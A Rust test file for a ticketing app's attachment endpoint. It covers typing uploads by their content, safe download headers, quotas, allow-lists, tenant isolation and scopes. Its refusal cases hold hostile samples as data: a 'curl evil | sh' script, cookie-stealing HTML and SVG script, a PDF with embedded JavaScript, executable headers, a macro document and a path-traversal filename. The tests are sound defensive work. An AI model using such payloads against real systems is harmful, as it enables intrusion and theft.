//! Ticket attachments: an upload typed by its content and served back only as a download with
//! the protective headers; every hostile file refused with `422 file_type_not_allowed` and its
//! reason; the size limit while streaming (`413`), the daily quota (`429`, also for two uploads
//! at once at the edge), the allow-list, another tenant's ids, scopes, roles and read-only
//! impersonation; uploads, refusals and downloads audited.

use crate::support::{assert_error, audit_count};
use palisade_testkit::{spawn_app, spawn_app_with, Db, Resp, TestApp};
use reqwest::StatusCode;
use serde_json::{json, Value};
use std::io::Write;

both!(
    a_file_is_uploaded_typed_by_content_and_downloaded_as_an_attachment,
    hostile_files_are_refused_with_their_reason,
    size_and_daily_quota_are_enforced_also_under_concurrent_uploads,
    the_allow_list_is_configurable,
    another_tenant_scopes_roles_and_impersonation,
);

const PDF: &[u8] = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n";

fn png() -> Vec<u8> {
    let mut b =
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89".to_vec();
    b.extend_from_slice(b"\0\0\0\0IEND\xAE\x42\x60\x82");
    b
}

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, data) in entries {
        w.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn docx(extra: &[(&str, &[u8])]) -> Vec<u8> {
    let mut e: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", b"<?xml version=\"1.0\"?><Types/>"),
        ("_rels/.rels", b"<?xml version=\"1.0\"?><Relationships/>"),
        ("word/document.xml", b"<?xml version=\"1.0\"?><w:document/>"),
    ];
    e.extend_from_slice(extra);
    zip_of(&e)
}

/// `multipart/form-data` with the given parts: (field name, file name, bytes).
fn multipart(parts: &[(&str, &str, &[u8])]) -> (String, Vec<u8>) {
    let boundary = "----palisade-test-boundary-7MA4YWxkTrZu0gW";
    let mut body = Vec::new();
    for (field, filename, bytes) in parts {
        body.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
        body.extend_from_slice(
            format!(
                "Content-Disposition: form-data; name=\"{field}\"; filename=\"{filename}\"\r\n\
                 Content-Type: application/octet-stream\r\n\r\n"
            )
            .as_bytes(),
        );
        body.extend_from_slice(bytes);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

async fn upload_parts(
    app: &TestApp,
    token: &str,
    ticket: &str,
    parts: &[(&str, &str, &[u8])],
) -> Resp {
    let (ct, body) = multipart(parts);
    let r = app
        .client
        .post(app.url(&format!("/api/v1/tickets/{ticket}/attachments")))
        .bearer_auth(token)
        .header("content-type", ct)
        .body(body)
        .send()
        .await
        .expect("request");
    TestApp::read(r).await
}

pub(crate) async fn upload(
    app: &TestApp,
    token: &str,
    ticket: &str,
    name: &str,
    bytes: &[u8],
) -> Resp {
    upload_parts(app, token, ticket, &[("file", name, bytes)]).await
}

async fn new_ticket(app: &TestApp, token: &str) -> String {
    let r = app
        .post("/api/v1/tickets", Some(token), json!({"subject": "Files"}))
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    r.body["id"].as_str().unwrap().to_owned()
}

async fn download(app: &TestApp, token: &str, url: &str) -> reqwest::Response {
    app.client
        .get(app.url(url))
        .bearer_auth(token)
        .send()
        .await
        .unwrap()
}

async fn a_file_is_uploaded_typed_by_content_and_downloaded_as_an_attachment(db: Db) {
    let app = spawn_app(db).await;
    let owner = app.register("Acme", "owner@acme.example").await;
    let t = &owner.access_token;
    let ticket = new_ticket(&app, t).await;
    let r = upload(&app, t, &ticket, "Invoice März.pdf", PDF).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert_eq!(r.body["content_type"], "application/pdf");
    assert_eq!(r.body["filename"], "Invoice März.pdf");
    assert_eq!(r.body["size_bytes"], PDF.len());
    let sha = r.body["sha256"].as_str().unwrap().to_owned();
    assert_eq!(sha.len(), 64);
    let url = r.body["download_url"].as_str().unwrap().to_owned();
    // Listed on the ticket.
    let got = app.get(&format!("/api/v1/tickets/{ticket}"), t).await;
    assert_eq!(got.body["attachments"][0]["id"], r.body["id"]);

    let d = download(&app, t, &url).await;
    assert_eq!(d.status(), StatusCode::OK);
    let h = d.headers().clone();
    assert_eq!(h["content-type"], "application/pdf");
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert_eq!(h["content-security-policy"], "default-src 'none'; sandbox");
    assert_eq!(
        h["content-disposition"],
        "attachment; filename=\"Invoice M_rz.pdf\"; filename*=UTF-8''Invoice%20M%C3%A4rz.pdf"
    );
    assert_eq!(d.bytes().await.unwrap().as_ref(), PDF);
    assert_eq!(audit_count(&app, "attachment.uploaded").await, 1);
    assert_eq!(audit_count(&app, "attachment.downloaded").await, 1);

    // Stored by its SHA-256 under the tenant's directory; the name is never a path.
    let again = upload(
        &app,
        t,
        &ticket,
        "../../../etc/cron.d/x\u{202E}txt.pdf",
        PDF,
    )
    .await;
    assert_eq!(again.status, StatusCode::CREATED, "{}", again.body);
    assert_eq!(again.body["filename"], "xtxt.pdf");
    assert_eq!(again.body["sha256"], sha.as_str());
    let text = upload(&app, t, &ticket, "notes.txt", "Grüße\nline 2\n".as_bytes()).await;
    assert_eq!(text.body["content_type"], "text/plain", "{}", text.body);
    let csv = upload(&app, t, &ticket, "export.csv", b"a,b\n1,2\n").await;
    assert_eq!(csv.body["content_type"], "text/csv", "{}", csv.body);
    let image = upload(&app, t, &ticket, "photo.png", &png()).await;
    assert_eq!(image.body["content_type"], "image/png", "{}", image.body);
    let doc = upload(
        &app,
        t,
        &ticket,
        "letter.docx",
        &docx(&[("word/media/image1.png", &png())]),
    )
    .await;
    assert_eq!(
        doc.body["content_type"],
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "{}",
        doc.body
    );

    // Deleting the ticket removes its rows and the files no other attachment uses.
    assert_eq!(
        app.delete(&format!("/api/v1/tickets/{ticket}"), t)
            .await
            .status,
        StatusCode::NO_CONTENT
    );
    assert_eq!(
        download(&app, t, &url).await.status(),
        StatusCode::NOT_FOUND
    );
}

async fn hostile_files_are_refused_with_their_reason(db: Db) {
    let app = spawn_app(db).await;
    let owner = app.register("Acme", "owner@acme.example").await;
    let t = &owner.access_token;
    let ticket = new_ticket(&app, t).await;
    let mut png_zip = png();
    png_zip.extend_from_slice(&zip_of(&[("payload.js", b"alert(1)")]));
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "report.pdf",
            b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0".to_vec(),
            "ELF",
        ),
        ("setup.pdf", b"MZ\x90\0\x03\0\0\0\x04\0\0\0".to_vec(), "PE"),
        ("run.txt", b"#!/bin/sh\ncurl evil | sh\n".to_vec(), "script"),
        ("photo.png", png_zip, "zip"),
        (
            "readme.txt",
            b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
                .to_vec(),
            "markup",
        ),
        (
            "logo.svg",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".to_vec(),
            "markup",
        ),
        (
            "letter.docx",
            docx(&[("word/media/setup.exe", b"MZ\x90\0\x03\0")]),
            "setup.exe",
        ),
        (
            "letter.docx",
            docx(&[("word/vbaProject.bin", b"\xD0\xCF\x11\xE0")]),
            "macros",
        ),
        (
            "archive.zip",
            zip_of(&[("a.txt", b"x")]),
            "not part of an office document",
        ),
        ("photo.pdf", png(), "ends in .pdf"),
        ("data.txt", b"a\0b".to_vec(), "NUL"),
        ("data.txt", vec![0xff, 0xfe, 0xfd], "UTF-8"),
        (
            "form.pdf",
            b"%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF\n"
                .to_vec(),
            "JavaScript",
        ),
        ("noext", PDF.to_vec(), "no extension"),
    ];
    for (name, bytes, why) in cases {
        let r = upload(&app, t, &ticket, name, &bytes).await;
        assert_error(
            &r,
            StatusCode::UNPROCESSABLE_ENTITY,
            "file_type_not_allowed",
        );
        let msg = r.body["error"]["message"].as_str().unwrap();
        assert!(msg.contains(why), "{name}: {msg}");
        assert!(msg.contains("Accepted types: image/png (.png)"), "{msg}");
    }
    assert_eq!(audit_count(&app, "attachment.refused").await, 14);
    assert_eq!(audit_count(&app, "attachment.uploaded").await, 0);
    let got = app.get(&format!("/api/v1/tickets/{ticket}"), t).await;
    assert_eq!(got.body["attachments"], json!([]));
    // Malformed forms.
    let r = upload_parts(&app, t, &ticket, &[("other", "a.txt", b"x")]).await;
    assert_error(&r, StatusCode::BAD_REQUEST, "invalid_body");
    let r = upload_parts(
        &app,
        t,
        &ticket,
        &[("file", "a.txt", b"x"), ("file", "b.txt", b"y")],
    )
    .await;
    assert_error(&r, StatusCode::BAD_REQUEST, "invalid_body");
    let r = app
        .post(
            &format!("/api/v1/tickets/{ticket}/attachments"),
            Some(t),
            json!({}),
        )
        .await;
    assert_error(
        &r,
        StatusCode::UNSUPPORTED_MEDIA_TYPE,
        "unsupported_media_type",
    );
}

async fn size_and_daily_quota_are_enforced_also_under_concurrent_uploads(db: Db) {
    let app = spawn_app_with(db, |c| {
        c.upload_max_bytes = 1000;
        c.upload_quota_bytes_per_day = 2500;
    })
    .await;
    let owner = app.register("Acme", "owner@acme.example").await;
    let t = &owner.access_token;
    let ticket = new_ticket(&app, t).await;
    let r = upload(&app, t, &ticket, "big.txt", &[b'a'; 1001]).await;
    assert_error(&r, StatusCode::PAYLOAD_TOO_LARGE, "file_too_large");
    // Far over the limit: refused while streaming, not after. The server answers 413 and
    // closes without reading the rest, so the client may still be writing the body when the
    // connection goes: either it reads the 413, or its write fails (broken pipe, reset).
    let (ct, body) = multipart(&[("file", "huge.txt", &vec![b'a'; 5 * 1024 * 1024])]);
    let sent = app
        .client
        .post(app.url(&format!("/api/v1/tickets/{ticket}/attachments")))
        .bearer_auth(t)
        .header("content-type", ct)
        .body(body)
        .send()
        .await;
    match sent {
        Ok(r) => assert_error(
            &TestApp::read(r).await,
            StatusCode::PAYLOAD_TOO_LARGE,
            "file_too_large",
        ),
        Err(e) => assert!(
            e.is_request() && !e.is_timeout(),
            "only a connection closed mid-body is expected: {e:?}"
        ),
    }
    let r = upload(&app, t, &ticket, "ok.txt", &[b'a'; 1000]).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    // 1000 used of 2500: two concurrent 1000-byte uploads fit (3000 > 2500 would not); so
    // use 800 each with 1000 used: 2600 > 2500, exactly one passes.
    let (a, b) = tokio::join!(
        upload(&app, t, &ticket, "a.txt", &[b'b'; 800]),
        upload(&app, t, &ticket, "b.txt", &[b'c'; 800]),
    );
    let mut statuses = [a.status, b.status];
    statuses.sort();
    assert_eq!(
        statuses,
        [StatusCode::CREATED, StatusCode::TOO_MANY_REQUESTS],
        "{} / {}",
        a.body,
        b.body
    );
    let refused = if a.status == StatusCode::TOO_MANY_REQUESTS {
        &a
    } else {
        &b
    };
    assert_eq!(refused.code(), "upload_quota_exceeded");
    assert!(refused.header("retry-after").is_some());
    // 1800 used: a 701-byte file would pass 2500; a 700-byte one fits exactly.
    let r = upload(&app, t, &ticket, "c.txt", &[b'd'; 701]).await;
    assert_error(&r, StatusCode::TOO_MANY_REQUESTS, "upload_quota_exceeded");
    let r = upload(&app, t, &ticket, "d.txt", &[b'e'; 700]).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    // Spent: refused before the body is read.
    let r = upload(&app, t, &ticket, "e.txt", b"x").await;
    assert_error(&r, StatusCode::TOO_MANY_REQUESTS, "upload_quota_exceeded");
    // The quota is per user: a colleague still uploads.
    let agent = app.add_user(&owner, "agent@acme.example", "agent").await;
    let r = upload(&app, &agent.access_token, &ticket, "f.txt", b"x").await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
}

async fn the_allow_list_is_configurable(db: Db) {
    let app = spawn_app_with(db, |c| {
        c.upload_allowed_types = "application/pdf, image/png".into();
    })
    .await;
    let owner = app.register("Acme", "owner@acme.example").await;
    let t = &owner.access_token;
    let ticket = new_ticket(&app, t).await;
    assert_eq!(
        upload(&app, t, &ticket, "a.pdf", PDF).await.status,
        StatusCode::CREATED
    );
    let r = upload(&app, t, &ticket, "a.txt", b"hello").await;
    assert_error(
        &r,
        StatusCode::UNPROCESSABLE_ENTITY,
        "file_type_not_allowed",
    );
    let msg = r.body["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("text/plain files are not accepted here"),
        "{msg}"
    );
    assert!(
        msg.ends_with("Accepted types: image/png (.png), application/pdf (.pdf)")
            || msg.ends_with("Accepted types: application/pdf (.pdf), image/png (.png)"),
        "{msg}"
    );
    // A type outside the safe set is refused by the configuration check.
    let mut raw = palisade_testkit::test_config(std::path::Path::new("/tmp"));
    raw.upload_allowed_types = "text/html".into();
    let Err(e) = palisade::config::Config::from_raw(raw) else {
        panic!("a type outside the safe set was accepted");
    };
    assert!(
        e.to_string().contains("PALISADE_UPLOAD_ALLOWED_TYPES"),
        "{e}"
    );
}

async fn another_tenant_scopes_roles_and_impersonation(db: Db) {
    let app = spawn_app(db).await;
    let owner = app.register("Acme", "owner@acme.example").await;
    let t = &owner.access_token;
    let ticket = new_ticket(&app, t).await;
    let r = upload(&app, t, &ticket, "a.pdf", PDF).await;
    let url = r.body["download_url"].as_str().unwrap().to_owned();
    // Another tenant: neither the ticket nor the file.
    let other = app.register("Other", "owner@other.example").await;
    let r = upload(&app, &other.access_token, &ticket, "b.pdf", PDF).await;
    assert_error(&r, StatusCode::NOT_FOUND, "not_found");
    let d = download(&app, &other.access_token, &url).await;
    assert_eq!(d.status(), StatusCode::NOT_FOUND);
    // Agents upload and download.
    let agent = app.add_user(&owner, "agent@acme.example", "agent").await;
    assert_eq!(
        upload(&app, &agent.access_token, &ticket, "c.pdf", PDF)
            .await
            .status,
        StatusCode::CREATED
    );
    assert_eq!(
        download(&app, &agent.access_token, &url).await.status(),
        StatusCode::OK
    );
    // Scopes: tickets:read downloads but does not upload; another scope does neither.
    let mk = |scopes: Value| {
        let app = &app;
        async move {
            let k = app
                .post(
                    "/api/v1/api-keys",
                    Some(t),
                    json!({"name": "k", "scopes": scopes}),
                )
                .await;
            k.body["key"].as_str().unwrap().to_owned()
        }
    };
    let ro = mk(json!(["tickets:read"])).await;
    assert_eq!(download(&app, &ro, &url).await.status(), StatusCode::OK);
    let r = upload(&app, &ro, &ticket, "d.pdf", PDF).await;
    assert_error(&r, StatusCode::FORBIDDEN, "insufficient_scope");
    let none = mk(json!(["contacts:read"])).await;
    assert_eq!(
        download(&app, &none, &url).await.status(),
        StatusCode::FORBIDDEN
    );
    let rw = mk(json!(["tickets:write"])).await;
    assert_eq!(
        upload(&app, &rw, &ticket, "e.pdf", PDF).await.status,
        StatusCode::CREATED
    );
    // Unauthenticated.
    let d = app.client.get(app.url(&url)).send().await.unwrap();
    assert_eq!(d.status(), StatusCode::UNAUTHORIZED);
    // A read-only impersonation downloads (audited) but does not upload.
    let root = app.super_admin("root@platform.example").await;
    let r = app
        .post(
            &format!("/api/v1/admin/tenants/{}/impersonate", owner.tenant_id),
            Some(&root.access_token),
            json!({"reason": "support case 9"}),
        )
        .await;
    let imp = r.body["access_token"].as_str().unwrap().to_owned();
    assert_eq!(download(&app, &imp, &url).await.status(), StatusCode::OK);
    let r = upload(&app, &imp, &ticket, "f.pdf", PDF).await;
    assert_error(&r, StatusCode::FORBIDDEN, "impersonation_read_only");
}
